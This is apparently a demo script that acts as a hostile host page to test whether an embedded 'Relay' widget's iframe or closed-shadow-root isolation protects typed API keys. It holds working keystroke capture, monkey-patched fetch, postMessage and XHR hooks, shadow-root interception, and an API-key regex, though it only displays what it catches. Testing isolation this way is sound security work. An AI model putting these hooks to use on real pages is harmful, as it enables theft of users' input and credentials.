// A script gone bad. It runs first, takes all that a page can take, and counts the characters that it gets of what a user types.
"use strict";

(() => {
  const caught = [];
  let characters = 0;

  function show() {
    const number = document.getElementById("number");
    if (!number) return;
    number.textContent = String(characters);
    document.getElementById("verdict").classList.toggle("bad", characters > 0);
    document.getElementById("seen").textContent = caught.slice(-60).join("\n");
  }

  /** Writes down a text that a user typed or pasted. */
  function take(how, text) {
    characters += [...text].length;
    const last = caught.at(-1);
    if (how === "keydown" && last?.startsWith("keydown: ")) caught.splice(-1, 1, last + text);
    else caught.push(`${how}: ${text}`);
    show();
  }

  // Capture on the window comes before every listener of the widget.
  addEventListener("keydown", (event) => event.key.length === 1 && !event.ctrlKey && !event.metaKey && take("keydown", event.key), true);
  addEventListener("paste", (event) => take("paste", event.clipboardData?.getData("text") ?? ""), true);
  addEventListener("drop", (event) => take("drop", event.dataTransfer?.getData("text") ?? ""), true);
  addEventListener("compositionend", (event) => take("composition", event.data ?? ""), true);
  for (const name of ["keyup", "keypress", "beforeinput", "input", "change", "copy", "cut"]) {
    addEventListener(name, (event) => {
      const field = event.composedPath()[0];
      const value = typeof field?.value === "string" && field.type !== "radio" ? field.value : "";
      if (name === "change") inspect("field", value);
    }, true);
  }

  /** Anything in here that looks like a key was stolen on its way. */
  let stolen = "";
  const KEY = /(?:sk-|AQ\.|AIza)[\w.-]{4,}/;
  function inspect(how, value) {
    let text = "";
    try {
      text = typeof value === "string" ? value : JSON.stringify(value) ?? "";
    } catch {
      return;
    }
    const [key] = text.match(KEY) ?? [];
    if (key && key !== stolen) take(how, (stolen = key));
  }

  addEventListener("message", (event) => inspect("message", event.data), true);

  const { fetch, postMessage } = window;
  window.fetch = function (resource, options) {
    inspect("fetch", options?.body);
    return fetch.call(this, resource, options);
  };
  window.postMessage = function (...parts) {
    inspect("postMessage", parts[0]);
    return postMessage.apply(this, parts);
  };
  const port = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (...parts) {
    inspect("port", parts[0]);
    return port.apply(this, parts);
  };
  const { send } = XMLHttpRequest.prototype;
  XMLHttpRequest.prototype.send = function (body) {
    inspect("XMLHttpRequest", body);
    return send.call(this, body);
  };

  // A closed shadow root is no obstacle for a page that was there first.
  const roots = [];
  const { attachShadow } = Element.prototype;
  Element.prototype.attachShadow = function (options) {
    const root = attachShadow.call(this, options);
    roots.push(root);
    new MutationObserver(() => inspect("mutation", root.textContent)).observe(root, { subtree: true, childList: true, characterData: true });
    return root;
  };
  setInterval(() => {
    for (const root of roots) {
      for (const frame of root.querySelectorAll("iframe")) {
        try {
          inspect("frame", frame.contentDocument?.body?.innerHTML ?? "");
        } catch {
          // Another origin.
        }
      }
    }
  }, 500);

  const EXPLAINED = {
    frame: "The field is in a frame from Relay’s origin. The browser keeps its events, its contents and its calls from this page.",
    shadow: "The field is in this page, in a closed shadow root. That keeps styles apart, and nothing from a script.",
  };

  let handle;
  async function mount() {
    const isolation = document.querySelector("[name=isolation]:checked").value;
    document.getElementById("explained").textContent = EXPLAINED[isolation];
    handle?.unmount();
    characters = 0;
    caught.length = 0;
    stolen = "";
    show();
    const body = JSON.stringify({ case: "fresh", provider: "openai" });
    const answer = await fetch("/start", { method: "POST", headers: { "content-type": "application/json" }, body });
    const { registrationToken } = await answer.json();
    handle = window.Relay?.mount("#relay-widget", { registrationToken, isolation, theme: "auto" });
  }

  addEventListener("load", () => {
    for (const radio of document.querySelectorAll("[name=isolation]")) radio.addEventListener("change", mount);
    mount();
  });
})();
